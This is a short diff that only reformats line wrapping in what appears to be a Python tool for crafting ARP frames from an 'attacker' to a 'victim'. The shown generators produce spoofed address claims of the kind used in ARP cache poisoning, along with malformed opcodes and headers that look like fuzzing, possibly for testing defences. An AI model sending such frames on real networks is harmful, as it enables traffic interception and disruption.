@@ -21,8 +21,9 @@ def _claims(aim: Aim) -> Iterator[bytes]:
         for to in (BROADCAST, aim.victim.hop, aim.victim.mac):
             for operation in (1, 2):
                 yield craft.arp(aim.attacker, operation, (own, other.address), (NONE, other.address), to=to)
-                yield craft.arp(aim.attacker, operation, (own, other.address), (aim.victim.mac, aim.victim.address),
-                                to=to)
+                yield craft.arp(
+                    aim.attacker, operation, (own, other.address), (aim.victim.mac, aim.victim.address), to=to
+                )
 
 
 def _honest(aim: Aim) -> Iterator[bytes]:
@@ -42,8 +43,15 @@ def _odd(aim: Aim) -> Iterator[bytes]:
     for to in (BROADCAST, aim.victim.hop, aim.victim.mac):
         for operation in (0, *range(3, 26), 255, 0xFFFF):
             yield craft.arp(aim.attacker, operation, *ends, to=to)
-        for head in ((0, 0x0800, 6, 4), (6, 0x0800, 6, 4), (1, 0x86DD, 6, 16), (1, 0x0800, 0, 4), (1, 0x0800, 8, 4),
-                     (1, 0x0800, 6, 0), (1, 0x0800, 255, 255)):
+        for head in (
+            (0, 0x0800, 6, 4),
+            (6, 0x0800, 6, 4),
+            (1, 0x86DD, 6, 16),
+            (1, 0x0800, 0, 4),
+            (1, 0x0800, 8, 4),
+            (1, 0x0800, 6, 0),
+            (1, 0x0800, 255, 255),
+        ):
             for operation in (1, 2):
                 yield craft.arp(aim.attacker, operation, *ends, to=to, head=head)
         for operation in (1, 2, 3, 4):
